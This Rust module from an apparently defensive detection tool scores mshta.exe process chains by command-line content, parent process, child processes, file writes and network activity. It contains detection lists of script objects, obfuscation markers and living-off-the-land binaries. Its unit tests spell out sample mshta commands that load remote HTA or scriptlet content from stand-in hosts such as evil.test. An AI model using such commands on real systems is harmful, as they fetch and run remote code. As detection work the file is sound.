//! Scoring: additive, explained reasons for one chain.
//!
//! Each reason has a stable id, fixed default points, a one-line detail and
//! the input indexes of its evidence. The indicators come from public
//! detection content (SigmaHQ, Elastic, Splunk, LOLBAS, Atomic Red Team;
//! see `docs/indicators.md`); the weights are ours.

use crate::chains::referenced_paths;
use crate::event::{Activity, Direction};
use crate::inventory::command_shape;
use crate::names::{basename, lower};
use crate::report::Reason;
use crate::tuning::{parse_ip, Tuning};
use crate::view::View;

/// Scores a chain: the clamped sum and the reasons. Follow-on activity
/// after the window scores as late. Points come from the tuning (config
/// weights, else the catalogue's defaults).
pub(crate) fn score(v: &View, t: &Tuning) -> (i64, Vec<Reason>) {
    let root_index: Vec<u64> = v.root.events.clone();
    let mut reasons = Vec::new();
    let mut add = |id: &'static str, detail: String, events: Vec<u64>| {
        reasons.push(Reason { id: id.to_string(), points: t.points(id), detail, events });
    };
    let root_ev = || root_index.clone();

    add(
        "mshta_execution",
        format!("{} ran{}", basename(v.root.image), if v.root.inferred { " (start not seen; inferred)" } else { "" }),
        root_ev(),
    );

    // Command line.
    let raw_cmd = v.root.command_line.unwrap_or("");
    let cmd = lower(raw_cmd);
    let mut script_content = false;
    if let Some(handler) = ["javascript:", "vbscript:", "about:"].iter().find(|h| cmd.contains(*h)) {
        script_content = true;
        add("cmdline_inline_script", format!("command line runs inline script ({handler})"), root_ev());
    }
    let url_host = url_host(&cmd);
    if let Some(target) = remote_target(&cmd) {
        script_content = true;
        let shown = url_host.map(|h| format!(" {h}")).unwrap_or_default();
        add("cmdline_remote_target", format!("command line loads remote content ({target}{shown})"), root_ev());
    }
    if let Some(h) = url_host {
        if parse_ip(h).is_some() {
            add("cmdline_raw_ip_url", format!("the URL addresses {h} by IP"), root_ev());
        }
        if t.domain_allowed(h) {
            add("allowlisted_domain", format!("{h} is under an allowlisted domain"), root_ev());
        }
    }
    let mut tokens: Vec<&str> = [
        ("getobject", "GetObject"),
        ("activexobject", "ActiveXObject"),
        ("wscript.shell", "WScript.Shell"),
        ("createobject", "CreateObject"),
        (".run", ".Run"),
        (".exec", ".Exec"),
        ("eval(", "eval()"),
        ("execute(", "Execute()"),
        ("shell.application", "Shell.Application"),
        ("regread", "RegRead"),
        ("regwrite", "RegWrite"),
    ]
    .into_iter()
    .filter(|(tok, _)| cmd.contains(tok))
    .map(|(_, name)| name)
    .collect();
    if has_script_moniker(&cmd) {
        tokens.push("script: moniker");
    }
    if !tokens.is_empty() {
        script_content = true;
        add("cmdline_script_object", format!("command line uses script objects ({})", tokens.join(", ")), root_ev());
    }
    let mut obfuscation: Vec<&str> = [
        ("%2", "percent-encoding"),
        ("%3c", "percent-encoding"),
        ("chr(", "Chr()"),
        ("strreverse", "StrReverse"),
        ("fromcharcode", "fromCharCode"),
        ("^", "caret escapes"),
    ]
    .into_iter()
    .filter(|(tok, _)| cmd.contains(tok))
    .map(|(_, name)| name)
    .collect();
    obfuscation.dedup();
    if !obfuscation.is_empty() {
        add("cmdline_obfuscation", format!("command line is obfuscated ({})", obfuscation.join(", ")), root_ev());
    }
    if let Some(dir) = user_writable_dir(&cmd) {
        if cmd.contains(".hta") {
            script_content = true;
        }
        add("cmdline_user_writable_path", format!("command line references a user-writable folder ({dir})"), root_ev());
    }
    if let Some(what) = archive_temp(&cmd) {
        script_content = true;
        add(
            "cmdline_archive_temp_path",
            format!("the HTA runs from an archive's temporary folder ({what})"),
            root_ev(),
        );
    }
    let own_name = lower(basename(v.root.image)).into_owned();
    // Files the command line runs: only outside inline script (whose text
    // names objects like `WScript.Shell`, not files), and only tokens that
    // look like paths.
    let inline = ["javascript:", "vbscript:", "about:"].iter().any(|h| cmd.contains(h));
    let local_paths: Vec<&str> = if inline { Vec::new() } else { referenced_paths(raw_cmd) }
        .into_iter()
        .filter(|p| !p.contains("://") && !lower(basename(p)).eq(&own_name) && !lower(p).ends_with("mshta.exe"))
        .filter(|p| !(p.starts_with('{') && p.ends_with('}')))
        .filter(|p| p.contains('\\') || p.contains('/'))
        .collect();
    if let Some(p) = local_paths.iter().find(|p| p.get(2..).is_some_and(|rest| rest.contains(':'))) {
        script_content = true;
        add("cmdline_alternate_data_stream", format!("runs content from an alternate data stream ({p})"), root_ev());
    } else if let Some(p) = local_paths.iter().find(|p| {
        let ext = lower(basename(p)).rsplit_once('.').map(|(_, e)| e.to_string()).unwrap_or_default();
        !ext.is_empty() && !matches!(ext.as_str(), "hta" | "htm" | "html" | "mht" | "mhtml" | "exe")
    }) {
        script_content = true;
        add("cmdline_non_hta_target", format!("runs a file that is not an .hta ({})", basename(p)), root_ev());
    }
    let embedding = cmd.contains("-embedding") || cmd.contains("/embedding");
    if embedding {
        add("cmdline_embedding", "started as a COM server (-Embedding)".into(), root_ev());
    }
    if let Some(pattern) = t.command_line_allowed(raw_cmd) {
        add("allowlisted_command_line", format!("command line matches the allowlisted pattern {pattern:?}"), root_ev());
    }
    if let Some(prefix) = local_paths.iter().find_map(|p| t.hta_path_allowed(p)) {
        add("allowlisted_hta_path", format!("the HTA is under the allowlisted folder {prefix}"), root_ev());
    }

    // Binary identity.
    let image = v.root.image;
    let name = basename(image);
    if !name.eq_ignore_ascii_case("mshta.exe") && v.root.original_file_name.is_some() {
        add("renamed_binary", format!("mshta renamed to {name} (OriginalFileName MSHTA.EXE)"), root_ev());
    }
    let l = lower(image);
    if l.contains('\\') && !(l.contains("\\windows\\system32\\") || l.contains("\\windows\\syswow64\\")) {
        add("unusual_image_path", format!("mshta runs from outside System32/SysWOW64 ({image})"), root_ev());
    }

    // Lineage.
    let parent_image = v.parent.as_ref().and_then(|p| p.image);
    if let Some(pimg) = parent_image {
        let pname = lower(basename(pimg)).into_owned();
        let parent_cmd = v.parent.as_ref().and_then(|p| p.command_line).map(lower).unwrap_or_default();
        if let Some((id, what)) = parent_grade(&pname, &parent_cmd, embedding) {
            add(id, format!("started by {what} ({})", basename(pimg)), root_ev());
        }
        if t.parent_allowed(pimg) {
            add("allowlisted_parent", format!("{} is an allowlisted parent", basename(pimg)), root_ev());
        }
    }
    let ancestors: Vec<&str> = v
        .lineage
        .iter()
        .filter_map(|a| a.image)
        .filter(|img| {
            let n = lower(basename(img));
            matches!(parent_grade(&n, "", false), Some(("parent_office" | "parent_wmi", _)))
        })
        .collect();
    if let Some(a) = ancestors.first() {
        add("ancestor_suspicious", format!("{} is an ancestor of the launcher", basename(a)), root_ev());
    }
    let parent_name = parent_image.map(|p| lower(basename(p)).into_owned()).unwrap_or_default();
    if v.root.command_line.is_some() && t.in_baseline(&command_shape(raw_cmd), &parent_name) {
        add(
            "baseline_known",
            "this command-line shape and parent are in the baseline of known-good use".into(),
            root_ev(),
        );
    }
    if t.host_allowed(v.host) {
        add("allowlisted_host", format!("{} is an allowlisted host", v.host), root_ev());
    }

    // A file written shortly before, then run by mshta.
    let mut follow_on = false;
    if let Some(f) = &v.dropped_file {
        follow_on = true;
        let by = f.writer_image.as_deref().map(basename).unwrap_or("another process");
        add(
            "file_written_then_run",
            format!("{} was written by {by} shortly before mshta ran it", basename(&f.path)),
            vec![f.event],
        );
    }

    // Follow-on: descendants.
    let (mut lolbins, mut others, mut late_events, mut executed, mut user_folder) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for m in &v.members {
        let first = m.events.first().copied().unwrap_or(0);
        if m.late {
            late_events.push(first);
            continue;
        }
        follow_on = true;
        let name = lower(basename(m.image)).into_owned();
        if m.executed_file {
            executed.push((name.clone(), first));
        }
        let path = lower(m.image);
        if path.contains("\\users\\") || path.contains("\\windows\\temp\\") || path.contains("\\programdata\\") {
            user_folder.push((name.clone(), first));
        }
        if LOLBINS.contains(&name.as_str()) {
            lolbins.push((name, first));
        } else {
            others.push((name, first));
        }
    }
    let names = |v: &[(String, u64)]| unique(v.iter().map(|(n, _)| n.as_str()));
    let evs = |v: &[(String, u64)]| v.iter().map(|(_, i)| *i).collect::<Vec<u64>>();
    if !lolbins.is_empty() {
        add("child_shell_or_lolbin", format!("spawned {}", names(&lolbins)), evs(&lolbins));
    }
    if !others.is_empty() {
        add("child_process", format!("spawned {}", names(&others)), evs(&others));
    }
    if !user_folder.is_empty() {
        add(
            "child_in_user_folder",
            format!("ran {} from a user-writable folder", names(&user_folder)),
            evs(&user_folder),
        );
    }
    if !executed.is_empty() {
        add("written_file_executed", format!("ran a file the chain wrote ({})", names(&executed)), evs(&executed));
    }

    // Follow-on: files, network, DNS, modules.
    let (mut files, mut dropped, mut startup) = (Vec::new(), Vec::new(), Vec::new());
    let (mut public, mut private, mut allowed_net, mut odd_ports, mut dcom) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
    let (mut dns, mut dns_allowed, mut dns_match, mut clr) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for a in &v.acts {
        let first = a.events[0];
        if a.late {
            if !matches!(a.what, Activity::ImageLoad { .. }) {
                late_events.push(first);
            }
            continue;
        }
        match a.what {
            Activity::FileCreate { path } => {
                follow_on = true;
                let l = lower(path);
                if l.contains("\\start menu\\programs\\startup\\") {
                    startup.push((basename(path).to_string(), first));
                } else if suspicious_file(&l) && !routine_file(&l) {
                    dropped.push((basename(path).to_string(), first));
                } else {
                    files.push(first);
                }
            }
            Activity::Network(n) => {
                follow_on = true;
                let remote = n.remote_ip().unwrap_or("");
                let remote_port = match n.direction {
                    Direction::Inbound => n.src_port,
                    _ => n.dst_port,
                };
                if embedding
                    && n.direction == Direction::Inbound
                    && n.src_port.unwrap_or(0) > 49151
                    && n.dst_port.unwrap_or(0) > 49151
                {
                    dcom.push((remote.to_string(), first));
                }
                if t.network_allowed(remote) || n.dst_host.as_deref().is_some_and(|h| t.domain_allowed(h)) {
                    allowed_net.push((remote.to_string(), first));
                } else if remote.is_empty() || is_internal_ip(remote) {
                    private.push(first);
                } else {
                    if !matches!(remote_port, Some(80 | 443) | None) {
                        odd_ports.push((format!("{remote}:{}", remote_port.unwrap_or(0)), first));
                    }
                    public.push((remote.to_string(), first));
                }
            }
            Activity::Dns { query } => {
                follow_on = true;
                let q = lower(query);
                if t.domain_allowed(&q) {
                    dns_allowed.push((q.to_string(), first));
                } else {
                    if url_host.is_some_and(|h| h == q.trim_end_matches('.')) {
                        dns_match.push((q.to_string(), first));
                    }
                    dns.push((q.to_string(), first));
                }
            }
            Activity::ImageLoad { path } => {
                let n = lower(basename(path));
                if matches!(n.as_ref(), "clr.dll" | "clrjit.dll" | "mscoree.dll" | "mscoreei.dll" | "mscorlib.ni.dll") {
                    clr.push((n.into_owned(), first));
                }
            }
        }
    }
    if !startup.is_empty() {
        add("file_in_startup", format!("wrote into a Startup folder ({})", names(&startup)), evs(&startup));
    }
    if !dropped.is_empty() {
        add(
            "file_dropped_executable",
            format!("wrote executables, scripts or archives ({})", names(&dropped)),
            evs(&dropped),
        );
    }
    if !files.is_empty() {
        add("file_created", format!("created {} other file(s)", files.len()), files);
    }
    if !public.is_empty() {
        add("network_public", format!("connected to public address(es) {}", names(&public)), evs(&public));
    }
    if !odd_ports.is_empty() {
        add("network_unusual_port", format!("used non-web ports ({})", names(&odd_ports)), evs(&odd_ports));
    }
    if !dcom.is_empty() {
        add(
            "dcom_inbound",
            format!("received inbound high-port connections as a COM server (from {})", names(&dcom)),
            evs(&dcom),
        );
    }
    if !private.is_empty() {
        add("network_internal", format!("made {} internal or loopback connection(s)", private.len()), private);
    }
    if !allowed_net.is_empty() || !dns_allowed.is_empty() {
        let mut all = allowed_net.clone();
        all.extend(dns_allowed.iter().cloned());
        add(
            "allowlisted_network",
            format!("{} connection(s) or lookup(s) to allowlisted networks or domains ({})", all.len(), names(&all)),
            evs(&all),
        );
    }
    if !dns.is_empty() {
        add("dns_query", format!("looked up {}", names(&dns)), evs(&dns));
    }
    if !dns_match.is_empty() {
        add(
            "dns_matches_cmdline_host",
            format!("looked up the command line's URL host {}", names(&dns_match)),
            evs(&dns_match),
        );
    }
    if !clr.is_empty() {
        add("clr_loaded", format!("loaded the .NET runtime ({})", names(&clr)), evs(&clr));
    }
    if !late_events.is_empty() {
        late_events.sort_unstable();
        add(
            "late_activity",
            format!("{} follow-on event(s) after the {}-second window", late_events.len(), v.window_ms / 1000),
            late_events,
        );
    }
    if script_content && follow_on {
        add(
            "an1397_pattern",
            "script content (inline, remote, script objects, or an HTA in a user-writable folder) followed by activity inside the window (AN1397)".into(),
            root_index,
        );
    }

    let total: i64 = reasons.iter().map(|r| r.points).sum();
    (total.clamp(0, 100), reasons)
}

/// The host of the first http(s)/ftp URL in a command line.
fn url_host(cmd: &str) -> Option<&str> {
    let start =
        ["https://", "http://", "ftps://", "ftp://"].iter().filter_map(|s| cmd.find(s).map(|i| i + s.len())).min()?;
    let rest = &cmd[start..];
    let end = rest.find(['/', ':', '"', '\'', ')', ' ', '?', '#', '\\']).unwrap_or(rest.len());
    let host = &rest[..end];
    let host = host.rsplit('@').next().unwrap_or(host);
    (!host.is_empty()).then_some(host)
}

fn archive_temp(cmd: &str) -> Option<&'static str> {
    [
        ("\\temp\\7z", "7-Zip"),
        ("\\temp\\rar$", "WinRAR"),
        ("\\temp\\temp1_", "Windows zip"),
        ("\\temp\\temp2_", "Windows zip"),
        (".zip\\", "zip"),
        ("\\temp\\bnz.", "archive"),
    ]
    .into_iter()
    .find(|(needle, _)| cmd.contains(needle))
    .map(|(_, name)| name)
}

/// Shells, script hosts and living-off-the-land binaries public rules flag
/// as children of mshta.
const LOLBINS: &[&str] = &[
    "cmd.exe",
    "powershell.exe",
    "pwsh.exe",
    "wscript.exe",
    "cscript.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "curl.exe",
    "msiexec.exe",
    "schtasks.exe",
    "reg.exe",
    "sc.exe",
    "mshta.exe",
    "msbuild.exe",
    "wmic.exe",
    "bash.exe",
    "sh.exe",
    "nslookup.exe",
    "csc.exe",
    "vbc.exe",
    "msdt.exe",
    "odbcconf.exe",
    "installutil.exe",
    "regasm.exe",
    "regsvcs.exe",
    "forfiles.exe",
    "hh.exe",
    "wmiprvse.exe",
];

fn remote_target(cmd: &str) -> Option<&'static str> {
    if cmd.contains("http://") || cmd.contains("https://") {
        return Some("http");
    }
    if cmd.contains("ftp://") || cmd.contains("ftps://") {
        return Some("ftp");
    }
    if cmd.contains("@ssl") || cmd.contains("davwwwroot") {
        return Some("WebDAV");
    }
    // UNC: `\\host\share`, but not the `\\?\` and `\\.\` device prefixes.
    let b = cmd.as_bytes();
    let unc = b.windows(3).any(|w| w[0] == b'\\' && w[1] == b'\\' && w[2] != b'?' && w[2] != b'.' && w[2] != b'\\');
    unc.then_some("UNC path")
}

/// `script:` as a moniker (`GetObject("script:https://…")`), not the tail
/// of `vbscript:` or `javascript:`.
fn has_script_moniker(cmd: &str) -> bool {
    cmd.match_indices("script:").any(|(i, _)| !cmd[..i].chars().next_back().is_some_and(|c| c.is_ascii_alphabetic()))
}

fn user_writable_dir(cmd: &str) -> Option<&'static str> {
    [
        ("\\start menu\\programs\\startup\\", "Startup"),
        ("\\downloads\\", "Downloads"),
        ("\\appdata\\local\\temp\\", "Temp"),
        ("\\windows\\temp\\", "Windows\\Temp"),
        ("%temp%", "Temp"),
        ("\\users\\public\\", "Public"),
        ("\\programdata\\", "ProgramData"),
        ("\\appdata\\", "AppData"),
        ("\\perflogs\\", "PerfLogs"),
    ]
    .into_iter()
    .find(|(needle, _)| cmd.contains(needle))
    .map(|(_, name)| name)
}

/// The lineage reason for a parent, or `None` when ordinary.
fn parent_grade(name: &str, parent_cmd: &str, embedding: bool) -> Option<(&'static str, &'static str)> {
    const OFFICE: &[&str] = &[
        "winword.exe",
        "excel.exe",
        "powerpnt.exe",
        "outlook.exe",
        "onenote.exe",
        "eqnedt32.exe",
        "mspub.exe",
        "visio.exe",
        "msaccess.exe",
        "wordpad.exe",
    ];
    const SHELLS: &[&str] = &[
        "cmd.exe",
        "powershell.exe",
        "pwsh.exe",
        "wscript.exe",
        "cscript.exe",
        "regsvr32.exe",
        "rundll32.exe",
        "hh.exe",
    ];
    const BROWSERS: &[&str] = &["chrome.exe", "msedge.exe", "firefox.exe", "iexplore.exe", "brave.exe", "opera.exe"];
    if OFFICE.contains(&name) {
        Some(("parent_office", "an Office application"))
    } else if name == "wmiprvse.exe" || name == "scrcons.exe" {
        Some(("parent_wmi", "WMI"))
    } else if name == "svchost.exe" && (parent_cmd.contains("dcomlaunch") || embedding) {
        Some(("parent_dcom", "DCOM (svchost DcomLaunch)"))
    } else if name == "rundll32.exe"
        && (parent_cmd.contains("runhtmlapplication") || parent_cmd.contains("fileprotocolhandler"))
    {
        Some(("parent_rundll32_handler", "rundll32 proxying HTML execution"))
    } else if SHELLS.contains(&name) {
        Some(("parent_script_host", "a shell or script host"))
    } else if BROWSERS.contains(&name) {
        Some(("parent_browser", "a web browser"))
    } else if name == "explorer.exe" {
        Some(("parent_explorer", "Explorer (a double-click)"))
    } else {
        None
    }
}

/// Files Windows components write routinely (PowerShell writes an
/// execution-policy probe script at every start).
fn routine_file(l: &str) -> bool {
    basename(l).starts_with("__psscriptpolicytest_")
}

fn suspicious_file(l: &str) -> bool {
    const EXTENSIONS: &[&str] = &[
        ".exe", ".dll", ".com", ".scr", ".ocx", ".jar", ".ps1", ".psm1", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse",
        ".wsf", ".wsh", ".hta", ".sct", ".lnk", ".zip", ".rar", ".7z", ".iso", ".msi", ".chm",
    ];
    EXTENSIONS.iter().any(|e| l.ends_with(e))
}

/// Private, loopback, link-local and other non-routable addresses.
pub(crate) fn is_internal_ip(ip: &str) -> bool {
    let ip = ip.trim().trim_start_matches("::ffff:");
    if let Some(v4) = parse_v4(ip) {
        let [a, b, ..] = v4;
        return a == 10
            || a == 127
            || a == 0
            || (a == 172 && (16..=31).contains(&b))
            || (a == 192 && b == 168)
            || (a == 169 && b == 254)
            || (a == 100 && (64..=127).contains(&b))
            || a >= 224;
    }
    let l = lower(ip);
    l == "::1"
        || l == "0:0:0:0:0:0:0:1"
        || l == "::"
        || l.starts_with("fe80")
        || l.starts_with("fc")
        || l.starts_with("fd")
        || l.starts_with("ff")
}

fn parse_v4(s: &str) -> Option<[u8; 4]> {
    let mut out = [0u8; 4];
    let mut parts = s.split('.');
    for slot in &mut out {
        *slot = parts.next()?.parse().ok()?;
    }
    parts.next().is_none().then_some(out)
}

fn unique<'a>(names: impl Iterator<Item = &'a str>) -> String {
    let mut v: Vec<&str> = names.collect();
    v.sort_unstable();
    v.dedup();
    let shown = v.len().min(5);
    let mut s = v[..shown].join(", ");
    if v.len() > shown {
        s.push_str(&format!(" and {} more", v.len() - shown));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_targets() {
        assert_eq!(remote_target("mshta https://evil.test/a.hta"), Some("http"));
        assert_eq!(remote_target("mshta \"\\\\10.0.0.5\\share\\a.hta\""), Some("UNC path"));
        assert_eq!(remote_target("mshta \\\\evil@ssl\\davwwwroot\\a.hta"), Some("WebDAV"));
        assert_eq!(remote_target("\\\\?\\c:\\windows\\system32\\mshta.exe c:\\a.hta"), None);
        assert_eq!(remote_target("mshta c:\\apps\\a.hta"), None);
    }

    #[test]
    fn script_moniker_is_not_a_protocol_handler() {
        assert!(has_script_moniker("javascript:a=getobject('script:https://x/a.sct')"));
        assert!(!has_script_moniker("mshta vbscript:execute(1)"));
        assert!(!has_script_moniker("mshta javascript:alert(1)"));
    }

    #[test]
    fn internal_addresses() {
        for ip in [
            "10.1.2.3",
            "192.168.2.5",
            "172.20.0.1",
            "127.0.0.1",
            "::1",
            "fe80::1",
            "::ffff:10.0.0.1",
            "0:0:0:0:0:0:0:1",
        ] {
            assert!(is_internal_ip(ip), "{ip}");
        }
        for ip in ["151.101.248.133", "8.8.8.8", "172.32.0.1", "2606:4700::1111"] {
            assert!(!is_internal_ip(ip), "{ip}");
        }
    }

    #[test]
    fn parents_are_graded() {
        assert_eq!(parent_grade("winword.exe", "", false).map(|g| g.0), Some("parent_office"));
        let dcom = "c:\\windows\\system32\\svchost.exe -k dcomlaunch -p";
        assert_eq!(parent_grade("svchost.exe", dcom, false).map(|g| g.0), Some("parent_dcom"));
        assert_eq!(parent_grade("svchost.exe", "svchost.exe -k netsvcs", false), None);
        assert_eq!(parent_grade("explorer.exe", "", false).map(|g| g.0), Some("parent_explorer"));
        let handler = "rundll32.exe javascript:\"\\..\\mshtml,runhtmlapplication\"";
        assert_eq!(parent_grade("rundll32.exe", handler, false).map(|g| g.0), Some("parent_rundll32_handler"));
    }

    #[test]
    fn url_hosts() {
        assert_eq!(url_host("mshta https://cdn.evil.example/a.hta"), Some("cdn.evil.example"));
        assert_eq!(url_host("mshta http://10.0.0.5:8080/x"), Some("10.0.0.5"));
        assert_eq!(
            url_host("getobject('script:https://raw.githubusercontent.com/x')"),
            Some("raw.githubusercontent.com")
        );
        assert_eq!(url_host("mshta c:\\a.hta"), None);
    }
}
